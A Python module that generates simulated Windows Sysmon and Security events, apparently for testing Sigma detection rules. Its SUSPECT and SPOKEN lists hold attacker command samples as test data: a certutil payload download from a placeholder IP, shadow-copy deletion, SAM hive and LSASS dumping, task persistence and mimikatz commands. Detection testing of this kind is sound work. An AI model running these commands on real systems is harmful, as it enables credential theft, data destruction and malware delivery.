"""Windows events as Sysmon and the Security log write them, made from a seed; all simulated (`Computer` is SIM-...)."""

from __future__ import annotations

import base64
import hashlib
import random
from typing import Any

Event = dict[str, Any]
SYSTEM32 = "C:\\Windows\\System32\\"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"

# Sysmon's event ids and the categories that Sigma has for them; ids that a rule may decide by
# EventType (12) are told apart in `category_of`.
SYSMON_CATEGORIES = {
    1: "process_creation",
    2: "file_change",
    3: "network_connection",
    4: "sysmon_status",
    5: "process_termination",
    6: "driver_load",
    7: "image_load",
    8: "create_remote_thread",
    9: "raw_access_thread",
    10: "process_access",
    11: "file_event",
    12: "registry_add",
    13: "registry_set",
    14: "registry_rename",
    15: "create_stream_hash",
    16: "sysmon_status",
    17: "pipe_created",
    18: "pipe_created",
    19: "wmi_event",
    20: "wmi_event",
    21: "wmi_event",
    22: "dns_query",
    23: "file_delete",
    25: "process_tampering",
    26: "file_delete",
    27: "file_block",
    28: "file_block",
    29: "file_executable_detected",
    255: "sysmon_error",
}
POWERSHELL_CATEGORIES = {4103: "ps_module", 4104: "ps_script"}
CLASSIC_CATEGORIES = {
    400: "ps_classic_start",
    600: "ps_classic_provider_start",
    800: "ps_classic_script",
}
CHANNELS = {  # channel in lower case: service
    "microsoft-windows-sysmon/operational": "sysmon",
    "security": "security",
    "system": "system",
    "application": "application",
    "windows powershell": "powershell-classic",
    "microsoft-windows-powershell/operational": "powershell",
    "powershellcore/operational": "powershell",
    "microsoft-windows-wmi-activity/operational": "wmi",
    "microsoft-windows-taskscheduler/operational": "taskscheduler",
    "microsoft-windows-windows defender/operational": "windefend",
    "microsoft-windows-bits-client/operational": "bits-client",
    "microsoft-windows-windows firewall with advanced security/firewall": "firewall-as",
}


def category_of(service: str, event_id: Any, event_type: Any = None) -> str:
    """The Sigma category of an event of a service, or an empty text."""
    number = int(event_id) if str(event_id).isdigit() else -1
    if service == "sysmon":
        if number == 12 and str(event_type).startswith("Delete"):
            return "registry_delete"
        return SYSMON_CATEGORIES.get(number, "")
    if service == "security":
        return {4688: "process_creation", 4689: "process_termination"}.get(number, "")
    if service == "powershell":
        return POWERSHELL_CATEGORIES.get(number, "")
    return CLASSIC_CATEGORIES.get(number, "") if service == "powershell-classic" else ""


def tags_of(event: Event) -> Event:
    """The log source of an event, in the fields in which RSigma's routed mode looks for it."""
    service = CHANNELS.get(str(event.get("Channel", "")).lower(), "")
    category = category_of(service, event.get("EventID"), event.get("EventType"))
    named = {"product": "windows", "service": service, "category": category}
    return {name: value for name, value in named.items() if value}


# program, what it is (Description), who starts it, arguments
PROGRAMS = [
    (
        SYSTEM32 + "svchost.exe",
        "Host Process for Windows Services",
        "services",
        "-k netsvcs -p -s {service}",
    ),
    (
        SYSTEM32 + "svchost.exe",
        "Host Process for Windows Services",
        "services",
        "-k LocalServiceNetworkRestricted -p -s {service}",
    ),
    (
        SYSTEM32 + "cmd.exe",
        "Windows Command Processor",
        "explorer",
        '/c "{path}\\{word}.cmd" {word}',
    ),
    (SYSTEM32 + "conhost.exe", "Console Window Host", "cmd", "0xffffffff -ForceV1"),
    (SYSTEM32 + "taskhostw.exe", "Host Process for Windows Tasks", "svchost", "{service}"),
    (SYSTEM32 + "RuntimeBroker.exe", "Runtime Broker", "svchost", "-Embedding"),
    (
        SYSTEM32 + "backgroundTaskHost.exe",
        "Background Task Host",
        "svchost",
        "-ServerName:App.{word}.mca",
    ),
    (
        SYSTEM32 + "SearchProtocolHost.exe",
        "Microsoft Windows Search Protocol Host",
        "services",
        "Global\\UsGthrFltPipeMssGthrPipe{n} Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646",
    ),
    (
        SYSTEM32 + "dllhost.exe",
        "COM Surrogate",
        "svchost",
        "/Processid:{{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}}",
    ),
    (SYSTEM32 + "wbem\\WmiPrvSE.exe", "WMI Provider Host", "svchost", "-secured -Embedding"),
    (SYSTEM32 + "msiexec.exe", "Windows installer", "services", "/V"),
    (SYSTEM32 + "notepad.exe", "Notepad", "explorer", '"{path}\\{word}.txt"'),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "Google Chrome",
        "chrome",
        "--type=renderer --lang=en-US --renderer-client-id={n} --field-trial-handle={n},i,{n}",
    ),
    (
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "Microsoft Edge",
        "explorer",
        "--type=utility --utility-sub-type=network.mojom.NetworkService --mojo-platform-channel-handle={n}",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "Microsoft Word",
        "explorer",
        '/n "{path}\\{word}.docx" /o ""',
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "Microsoft Outlook",
        "explorer",
        "/restore",
    ),
    (
        "C:\\Program Files\\Git\\cmd\\git.exe",
        "Git for Windows",
        "code",
        "fetch --prune origin {word}",
    ),
    (
        "C:\\Program Files\\7-Zip\\7zG.exe",
        "7-Zip GUI",
        "explorer",
        'a -i#7zMap{n}#12#7zEvent{n} -t7z "{path}\\{word}.7z"',
    ),
    (
        "C:\\Program Files\\Microsoft VS Code\\Code.exe",
        "Visual Studio Code",
        "code",
        '--type=gpu-process --user-data-dir="{path}\\{word}" --gpu-preferences={n}',
    ),
    (
        "C:\\Program Files\\Python311\\python.exe",
        "Python",
        "code",
        "-m {word} --config {path}\\{word}.toml --port {port}",
    ),
    (
        "C:\\Program Files\\Vendor\\Agent\\agent.exe",
        "Vendor Agent",
        "services",
        "run --profile {word} --interval {port}",
    ),
]
STARTERS = {
    "services": (SYSTEM32 + "services.exe", SYSTEM32 + "services.exe"),
    "svchost": (SYSTEM32 + "svchost.exe", SYSTEM32 + "svchost.exe -k DcomLaunch -p"),
    "explorer": ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    "cmd": (SYSTEM32 + "cmd.exe", SYSTEM32 + "cmd.exe"),
    "chrome": (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
    ),
    "code": (
        "C:\\Program Files\\Microsoft VS Code\\Code.exe",
        '"C:\\Program Files\\Microsoft VS Code\\Code.exe" .',
    ),
}
WORDS = [
    "report",
    "invoice",
    "backup",
    "update",
    "sync",
    "metrics",
    "catalog",
    "cache",
    "index",
    "worker",
    "draft",
    "budget",
    "roadmap",
    "minutes",
]
SERVICES = [
    "BITS",
    "Schedule",
    "Themes",
    "wuauserv",
    "Winmgmt",
    "lmhosts",
    "Dhcp",
    "EventLog",
    "WdiSystemHost",
    "TokenBroker",
]
FOLDERS = [
    "C:\\Users\\{user}\\Documents",
    "C:\\ProgramData\\Vendor\\State",
    "D:\\Data\\Shares\\Team",
    "D:\\Build\\out",
    "C:\\Users\\{user}\\Desktop",
]
KINDS = {1: 55, 3: 10, 7: 10, 11: 10, 13: 6, 12: 2, 22: 3, 4688: 2, 4624: 2}
# What trips a rule, in three process creations out of two hundred.
SUSPECT = [
    (
        SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    ),
    (SYSTEM32 + "whoami.exe", "whoami /all"),
    (SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (
        SYSTEM32 + "certutil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
    ),
    (SYSTEM32 + "net.exe", 'net group "domain admins" /domain'),
    (
        SYSTEM32 + "schtasks.exe",
        "schtasks /create /sc minute /mo 5 /tn upd /tr C:\\Users\\Public\\a.exe",
    ),
    (SYSTEM32 + "reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv"),
    (
        SYSTEM32 + "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full",
    ),
]

# What trips a rule that looks for words anywhere, in raw messages.
SPOKEN = ["mimikatz # sekurlsa::logonpasswords", "dpapi::masterkey /in:key", "lsadump::sam", "kerberos::golden /user:a"]


class Maker:
    """Makes events in a row; `unique`: no command line and no hash twice."""

    def __init__(self, seed: int, unique: bool, hosts: int = 50) -> None:
        self.rng = random.Random(seed)
        self.unique = unique
        self.hosts = hosts
        self.number = 0

    def fill(self, text: str) -> str:
        rng = self.rng
        if "{" not in text:
            return text
        text = text.replace("{path}", rng.choice(FOLDERS))
        return text.format(
            word=rng.choice(WORDS),
            service=rng.choice(SERVICES),
            n=rng.randrange(1000, 9999),
            port=rng.randrange(1024, 9000),
            user=f"user{rng.randrange(40):02d}",
        )

    def guid(self) -> str:
        bits = f"{self.rng.getrandbits(128):032x}"
        return "-".join((bits[:8], bits[8:12], bits[12:16], bits[16:20], bits[20:]))

    def unique_arguments(self) -> str:
        """Arguments that no other command line has: what people's machines are full of."""
        rng = self.rng
        blob = base64.b64encode(rng.randbytes(rng.randrange(9, 30))).decode().rstrip("=")
        return rng.choice(
            (
                f" --session={self.guid()}",
                f' --log "C:\\Users\\user{rng.randrange(40):02d}\\AppData\\Local\\Vendor\\{rng.getrandbits(48):012x}.log"',
                f" --state {blob}{self.number}",
                f" --handle {rng.getrandbits(40)} --id {{{self.guid()}}}",
            )
        )

    def command(self, text: str) -> str:
        return self.fill(text) + (self.unique_arguments() if self.unique else "")

    def hashes(self, of: str) -> str:
        name = f"{self.number} {self.rng.random()}" if self.unique else of
        digest = hashlib.sha256(name.encode()).hexdigest().upper()
        return f"SHA256={digest},IMPHASH={digest[32:]}"

    def head(self, event_id: int, channel: str, provider: str) -> Event:
        self.number += 1
        seconds, millis = divmod(1_700_000_000_000 + self.number * 37, 1000)
        day, rest = divmod(seconds - 1_699_920_000, 86400)
        clock = f"2023-11-{14 + day % 16:02d} {rest // 3600:02d}:{rest // 60 % 60:02d}:{rest % 60:02d}.{millis:03d}"
        return {
            "EventID": event_id,
            "Channel": channel,
            "Provider_Name": provider,
            "Computer": f"SIM-WS{self.number % self.hosts:03d}.corp.example",
            "EventRecordID": self.number,
            "UtcTime": clock,
        }

    def process(self) -> Event:
        rng = self.rng
        image, description, starter, arguments = rng.choice(PROGRAMS)
        parent, parent_command = STARTERS[starter]
        command = f'"{image}" {self.command(arguments)}'
        if rng.random() < 0.015:
            image, command = rng.choice(SUSPECT)
            command += self.unique_arguments() if self.unique else ""
        name = image.rsplit("\\", 1)[1]
        return {
            "ProcessGuid": f"{{{self.guid()}}}",
            "ProcessId": rng.randrange(400, 30000),
            "Image": image,
            "Description": description,
            "OriginalFileName": name,
            "CommandLine": command,
            "CurrentDirectory": self.fill(rng.choice(FOLDERS)) + "\\",
            "User": f"CORP\\user{rng.randrange(40):02d}",
            "IntegrityLevel": rng.choice(("Medium", "Medium", "High", "System")),
            "Hashes": self.hashes(image),
            "ParentProcessId": rng.randrange(400, 30000),
            "ParentImage": parent,
            "ParentCommandLine": self.command(parent_command),
        }

    def connection(self, rng: random.Random) -> Event:
        return {
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIsIpv6": "false",
            "SourceIp": f"10.1.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "SourcePort": rng.randrange(49152, 65535),
            "DestinationIsIpv6": "false",
            "DestinationIp": f"203.0.113.{rng.randrange(1, 255)}",
            "DestinationHostname": f"{rng.choice(WORDS)}{rng.randrange(99)}.example.net",
            "DestinationPort": rng.choice((443, 443, 443, 80, 8443)),
        }

    def details(self, event_id: int) -> Event:
        rng = self.rng
        image = rng.choice(PROGRAMS)[0]
        name = f"{rng.choice(WORDS)}{self.number if self.unique else rng.randrange(99)}"
        own = {
            "ProcessGuid": f"{{{self.guid()}}}",
            "ProcessId": rng.randrange(400, 30000),
            "Image": image,
            "User": f"CORP\\user{rng.randrange(40):02d}",
        }
        if event_id == 3:
            return own | self.connection(rng)
        if event_id == 7:
            return own | {
                "ImageLoaded": f"{SYSTEM32}{name}.dll",
                "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
                "Description": "Windows Component",
                "Company": "Microsoft Corporation",
                "OriginalFileName": f"{name}.dll",
                "Hashes": self.hashes(name),
                "Signed": "true",
                "Signature": "Microsoft Windows",
                "SignatureStatus": "Valid",
            }
        if event_id == 11:
            suffix = rng.choice(("tmp", "log", "docx", "json", "xlsx"))
            return own | {
                "TargetFilename": f"{self.fill(rng.choice(FOLDERS))}\\{name}.{suffix}",
                "CreationUtcTime": "2023-11-14 00:00:00.000",
            }
        if event_id in (12, 13):
            kind = {"EventType": "SetValue"} if event_id == 13 else {"EventType": "CreateKey"}
            value = {"Details": f"DWORD (0x{rng.getrandbits(32):08x})"} if event_id == 13 else {}
            return own | kind | {"TargetObject": f"HKLM\\SOFTWARE\\Vendor\\Product\\{name}\\Settings"} | value
        if event_id == 22:
            return own | {
                "QueryName": f"{name}.example.org",
                "QueryStatus": "0",
                "QueryResults": f"::ffff:203.0.113.{rng.randrange(1, 255)};",
            }
        return own

    def security(self, event_id: int) -> Event:
        rng = self.rng
        subject = {
            "SubjectUserSid": f"S-1-5-21-{rng.getrandbits(30)}-{rng.getrandbits(30)}-1104",
            "SubjectUserName": f"user{rng.randrange(40):02d}",
            "SubjectDomainName": "CORP",
            "SubjectLogonId": hex(rng.getrandbits(24)),
        }
        if event_id == 4624:
            return subject | {
                "TargetUserName": f"user{rng.randrange(40):02d}",
                "TargetDomainName": "CORP",
                "LogonType": rng.choice((2, 3, 5, 7)),
                "LogonProcessName": "Kerberos",
                "AuthenticationPackageName": "Kerberos",
                "LogonGuid": f"{{{self.guid()}}}",
                "WorkstationName": "-",
                "IpAddress": f"10.1.0.{rng.randrange(1, 255)}",
                "IpPort": str(rng.randrange(49152, 65535)),
            }
        image, _, starter, arguments = rng.choice(PROGRAMS)
        return subject | {
            "NewProcessId": hex(rng.randrange(400, 30000)),
            "NewProcessName": image,
            "TokenElevationType": "%%1936",
            "ProcessId": hex(rng.randrange(400, 30000)),
            "CommandLine": f'"{image}" {self.command(arguments)}',
            "ParentProcessName": STARTERS[starter][0],
            "MandatoryLabel": "S-1-16-8192",
        }

    def sysmon(self, event_id: int) -> Event:
        head = self.head(event_id, SYSMON_CHANNEL, "Microsoft-Windows-Sysmon")
        return head | (self.process() if event_id == 1 else self.details(event_id))

    def structured(self) -> Event:
        event_id = self.rng.choices(list(KINDS), list(KINDS.values()))[0]
        if event_id > 1000:
            event = self.head(event_id, "Security", "Microsoft-Windows-Security-Auditing") | self.security(event_id)
        else:
            event = self.sysmon(event_id)
        return event | tags_of(event)

    def raw(self) -> Event:
        """Few fields, and the rest as the text that a forwarder renders."""
        inner = self.structured()
        trace = self.rng.choice(SPOKEN) + "\r\n" if self.rng.random() < 0.015 else ""
        text = (
            trace
            + f"{inner['Provider_Name']} {inner['EventID']}:\r\n"
            + "\r\n".join(f"{key}: {value}" for key, value in inner.items())
        )
        size = self.rng.randrange(860, 2400)
        while len(text) < size:
            text += "\r\n" + self.fill("Detail: {word} {path} {n} ") + f"{self.rng.getrandbits(64):016x}"
        kept = (
            "EventID",
            "Channel",
            "Provider_Name",
            "Computer",
            "EventRecordID",
            "UtcTime",
            "product",
            "service",
            "category",
        )
        return {key: inner[key] for key in kept if key in inner} | {"message": text[:size]}
